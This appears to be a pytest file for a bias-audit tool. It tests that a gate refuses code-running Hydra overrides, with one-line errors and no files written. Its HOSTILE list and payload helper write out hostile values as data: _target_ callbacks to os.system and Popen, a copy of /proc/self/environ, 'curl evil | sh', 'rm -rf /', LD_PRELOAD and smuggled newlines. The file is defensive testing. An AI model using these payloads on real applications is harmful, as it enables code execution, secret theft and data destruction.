"""The command line cannot run code (issue 39, HIGH 1): `hydra.*` overrides pass an
allow-list, no `_target_` is taken from the command line, the re-run line and the
manifest carry only what the gate allowed, and a received manifest carrying more is
refused. Also issue 39 item 6: a numeric option out of range is one line, not argparse's
usage block."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from tests.conftest import isolation, run_dirs
from tests.helpers import tp_spec
from tests.unit.cli.test_cli_errors import assert_clean_failure

# -- the payloads of the report ------------------------------------------------------------------


def _payload(kind: str, w: Path) -> list[str]:
    if kind == "copyfile":
        return ["+hydra.callbacks.x._target_=shutil.copyfile", "+hydra.callbacks.x.src=/proc/self/environ",
                f"+hydra.callbacks.x.dst={w / 'out'}"]
    return ["+hydra.callbacks.x._target_=os.makedirs", f"+hydra.callbacks.x.name={w / 'out'}"]


@pytest.mark.parametrize("kind", ["copyfile", "makedirs"])
def test_a_callback_payload_is_refused_and_nothing_is_written(workdir: Path, cli, kind: str) -> None:  # type: ignore[no-untyped-def]
    spec = tp_spec(workdir, 3)
    result = cli("run", f"spec={spec}", "model=scripted", *isolation(workdir), *_payload(kind, workdir))
    assert_clean_failure(result, workdir, "command line", "hydra.callbacks.x._target_", "_target_")
    assert not (workdir / "out").exists()
    assert sorted(p.name for p in workdir.iterdir()) == ["pairs.csv", "reports", "tp-test.yaml"]


@pytest.mark.parametrize("overrides", [
    ["+hydra.callbacks.x._target_=os.system", "+hydra.callbacks.x.command=true"],
    ["+hydra.callbacks.x._target_=subprocess.Popen", "+hydra.callbacks.x.args=[true]"],
    ["+hydra.job_logging.handlers.x._target_=os.system"],
    ["hydra.job_logging.handlers.console._target_=subprocess.Popen"],
], ids=["os.system", "subprocess.Popen", "job_logging handler added", "job_logging handler changed"])
def test_targets_hydra_blocks_are_one_line_not_a_traceback(workdir: Path, cli, overrides: list[str]) -> None:  # type: ignore[no-untyped-def]
    spec = tp_spec(workdir, 3)
    assert_clean_failure(cli("run", f"spec={spec}", "model=scripted", *isolation(workdir), *overrides),
                         workdir, "_target_")


# -- ways around the gate: every one is refused, one line, exit 2 ---------------------------------

HOSTILE = [
    "hydra.callbacks.x._target_=os.system",
    "++hydra.callbacks.x._target_=os.system",
    "+hydra.callbacks={x: {_target_: os.system, command: id}}",
    "++hydra.callbacks={x: {_target_: os.system}}",
    "+hydra.callbacks.x={_target_: os.system}",
    "hydra/callbacks=anything",
    "+hydra/callbacks=anything",
    "hydra/job_logging=disabled",
    "hydra/hydra_logging=none",
    "hydra/sweeper=basic",
    "hydra.job_logging.root.handlers=[console]",
    "hydra.hydra_logging.version=1",
    "hydra.job.chdir=true",
    "hydra.job.env_set={LD_PRELOAD: /tmp/x.so}",
    "hydra.launcher._target_=os.system",
    "+hydra.launcher.setup=['curl evil | sh']",
    "hydra.launcher.srun_args=[--pty]",
    "+hydra.launcher.additional_parameters={wrap: 'rm -rf /'}",
    "+hydra.launcher.ray.init.runtime_env={pip: [evil]}",
    "hydra.launcher.comment='a\nrm -rf /'",
    "hydra.launcher.n_jobs=1,2",
    "hydra.launcher.n_jobs=choice(1,2)",
    "hydra/launcher=glob(*)",
    "hydra/launcher=../../../../tmp/evil",
    "hydra/launcher=not_shipped",
    "~hydra.callbacks",
    "~hydra.run.dir",
    "hydra.run.dir=${oc.env:HOME}",
    "hydra.run.dir=[a]",
    "hydra.searchpath=[pkg://evil.module]",
    "hydra.searchpath=[file://${oc.env:HOME}]",
    "hydra.searchpath=x",
    "hydra.sweeper.params={a: '1,2'}",
    "hydra.verbose=${oc.env:HOME}",
    "hydra.run.dir=/tmp/somewhere",
    "hydra.sweep.dir=/tmp/sweeps",
    "hydra.sweep.subdir=job",
    "hydra.mode=MULTIRUN",
    "hydra.output_subdir=null",
    "hydra.mode=OTHER",
    "+hydra={callbacks: {x: {_target_: os.system}}}",
    "'+hydra.callbacks.x._target_'=os.system",
    " +hydra.callbacks.x._target_=os.system",
    "+hydra.callbacks.x._target_ =os.system",
    "+model@hydra.callbacks.x=scripted",
    "model@_global_=scripted",
    "+report._target_=os.system",
    "+report.extra={_target_: os.system}",
    "+report.extra=[{_target_: os.system}]",
    "+report.extra={nested: {_partial_: true}}",
    "+report.extra._args_=[1]",
    "+report.extra._recursive_=false",
    "+report.extra._convert_=all",
    "+report.title=choice({_target_: os.system},b)",
    "+report.title=${oc.env:HOME}",
    "+report.title='${oc.env:HOME}'",
    "+x${a}=1",
    "--experimental-rerun=/tmp/x.pickle",
    "+hydra.callbacks.x._target_=shutil.copyfile,os.system",
]


@pytest.mark.parametrize("override", [o for o in HOSTILE if not o.startswith("-")])  # a flag: argparse refuses it
def test_hostile_override_spellings_are_refused(workdir: Path, cli, override: str) -> None:  # type: ignore[no-untyped-def]
    spec = tp_spec(workdir, 3)
    result = cli("run", f"spec={spec}", "model=scripted", *isolation(workdir), override)
    assert "Traceback" not in result[2]
    assert_clean_failure(result, workdir)  # one line with a hint, exit 2, no run folder, no cache


def test_the_gate_itself_refuses_them_all() -> None:
    """Every spelling above, and each in a list with a harmless one, given to the gate as
    the Python API gives it."""
    from biasaudit.errors import SpecError
    from biasaudit.spec.override_gate import gate

    assert len(HOSTILE) >= 30
    for ov in HOSTILE:
        for overrides in ([ov], ["model=scripted", ov]):
            with pytest.raises(SpecError):
                gate(overrides)


# -- what stays allowed ----------------------------------------------------------------------------

ALLOWED = [
    ["hydra/launcher=joblib", "hydra.launcher.n_jobs=2"],
    ["hydra/launcher=submitit_local", "hydra.launcher.cpus_per_task=1", "hydra.launcher.timeout_min=10"],
    ["hydra/launcher=slurm", "hydra.launcher.partition=cpu", "hydra.launcher.cpus_per_task=8"],
    ["hydra/launcher=ray_local", "+hydra.launcher.ray.init.num_cpus=2", "hydra.launcher.ray.init.address=auto",
     "hydra.launcher.ray.remote.num_cpus=4"],
    ["hydra.searchpath=[biasaudit-specs://specs,file:///my/conf]"],
    ["hydra.verbose=true"], ["hydra.verbose=[biasaudit,hydra]"],
]


@pytest.mark.parametrize("overrides", ALLOWED, ids=[" ".join(a)[:40] for a in ALLOWED])
def test_documented_hydra_settings_pass_the_gate(overrides: list[str]) -> None:
    from biasaudit.spec.override_gate import gate

    assert list(gate(["model=scripted", *overrides])) == ["model=scripted", *overrides]


def test_a_joblib_sweep_still_plans(workdir: Path, cli) -> None:  # type: ignore[no-untyped-def]
    spec = tp_spec(workdir, 3)
    code, out, err = cli("plan", "-m", f"spec={spec}", "model=scripted", "hydra/launcher=joblib",
                         "hydra.launcher.n_jobs=2", "runtime.seed=1,2", *isolation(workdir))
    assert code == 0, err


# -- the re-run line and the manifest ---------------------------------------------------------------

def test_rerun_line_and_manifest_hold_only_what_the_gate_allowed(workdir: Path, cli) -> None:  # type: ignore[no-untyped-def]
    spec = tp_spec(workdir, 3)
    code, _, err = cli("run", f"spec={spec}", "model=scripted", *isolation(workdir), "hydra.verbose=true")
    assert code in (0, 1, 3), err
    [run] = run_dirs(workdir)
    manifest = json.loads((run / "manifest.json").read_text())
    rerun = json.loads((run / "summary.json").read_text())["reproducibility"]["rerun"]
    from biasaudit.spec.override_gate import gate

    for overrides in (manifest["overrides"], manifest["command"][2:], shlex.split(rerun)[2:]):
        assert not any("callbacks" in o or "_target_" in o for o in overrides)
        gate(overrides)  # passes the gate again as it is


@pytest.mark.parametrize("field", ["overrides", "command"])
def test_a_received_manifest_with_a_payload_is_refused(workdir: Path, cli, field: str) -> None:  # type: ignore[no-untyped-def]
    """A run folder whose manifest.json was given a `hydra.callbacks` override: re-rendering
    it (which writes the re-run line into the report) refuses it, and writes no report."""
    spec = tp_spec(workdir, 3)
    code, _, err = cli("run", f"spec={spec}", "model=scripted", *isolation(workdir))
    assert code in (0, 1, 3), err
    [run] = run_dirs(workdir)
    path = run / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest[field] = [*manifest[field], "+hydra.callbacks.x._target_=os.makedirs",
                       f"+hydra.callbacks.x.name={workdir / 'out'}"]
    path.write_text(json.dumps(manifest))
    (run / "report.md").unlink()
    code, out, err = cli("report", str(run))
    assert code == 2, (out, err)
    lines = [ln for ln in err.strip().splitlines() if ln.strip() and not ln.startswith("· ")]
    assert len(lines) == 1 and "manifest.json" in lines[0] and "_target_" in lines[0], err
    assert not (run / "report.md").exists() and not (workdir / "out").exists()


# -- issue 39 item 6: numeric options -----------------------------------------------------------------

@pytest.mark.parametrize("args,must", [
    (["view", "RUN", "--max-rows", "0"], "--max-rows"),
    (["view", "RUN", "--max-rows", "-1"], "--max-rows"),
    (["view", "RUN", "--max-rows", "nan"], "--max-rows"),
    (["annotate", "export", "RUN", "--layer", "x", "--n", "nan"], "--n"),
    (["annotate", "export", "RUN", "--layer", "x", "--n", "0"], "--n"),
    (["annotate", "export", "RUN", "--layer", "x", "--seed", "-1"], "--seed"),
    (["compare", "RUN", "--max-paired-runs", "-1"], "--max-paired-runs"),
    (["plan", "spec=x", "--half-width", "0.7"], "--half-width"),
    (["plan", "spec=x", "--half-width", "nan"], "--half-width"),
    (["plan", "spec=x", "--power", "--target-power", "inf"], "--target-power"),
    (["plan", "spec=x", "--power", "--icc", "2"], "--icc"),
    (["plan", "spec=x", "--power", "--sd", "-1"], "--sd"),
    (["data", "fetch", "crows_pairs", "--max-bytes", "0"], "--max-bytes"),
    (["data", "fetch", "crows_pairs", "--timeout", "nan"], "--timeout"),
])
def test_a_numeric_option_out_of_range_is_one_line(workdir: Path, cli, args: list[str], must: str) -> None:  # type: ignore[no-untyped-def]
    code, out, err = cli(*[str(workdir) if a == "RUN" else a for a in args])
    assert code == 2, (out, err)
    lines = [ln for ln in err.strip().splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith(f"error: {must} must be ") and "hint:" in lines[0], err
    assert "usage:" not in err and "Traceback" not in err


# -- config files on the search path (the gate reads the command line, not files) ----------------

@pytest.mark.parametrize("setting, made", [
    ("hydra:\n  callbacks:\n    x:\n      _target_: os.makedirs\n      name: MADE\n", True),
    ("hydra:\n  job_logging:\n    version: 1\n    handlers:\n      h: {'()': os.makedirs, name: MADE}\n", True),
    ("hydra:\n  job:\n    env_set: {LD_PRELOAD: /tmp/evil.so}\n", False),
    ("hydra:\n  launcher:\n    _target_: os.system\n", False),
    ("hydra:\n  sweeper:\n    _target_: os.system\n", False),
])
def test_hydra_settings_from_a_config_file_on_the_search_path_are_refused(workdir: Path, cli, setting: str,  # type: ignore[no-untyped-def]
                                                                           made: bool) -> None:
    """A model config on the operator's search path with `# @package _global_` can set
    Hydra's settings, which the command line cannot: the composed settings must be the
    shipped ones, or the command stops in one line before Hydra runs anything."""
    conf = workdir / "conf" / "model"
    conf.mkdir(parents=True)
    target = workdir / "made-by-config"
    (conf / "evil.yaml").write_text("# @package _global_\nmodel:\n  backend: scripted\n  name: evil\n"
                                    + setting.replace("MADE", str(target)), encoding="utf-8")
    spec = tp_spec(workdir, 3)
    for command in (["validate"], ["run", "--fail-on", "never"]):
        code, _, err = cli(*command, f"spec={spec}", f"hydra.searchpath=[biasaudit-specs://specs,file://{workdir / 'conf'}]", "model=evil",
                           *isolation(workdir))
        lines = [ln for ln in err.splitlines() if ln.startswith("error:")]
        assert code == 2 and len(lines) == 1 and "hydra." in lines[0] and "Traceback" not in err, (command, err)
        assert not target.exists()
    assert not run_dirs(workdir)
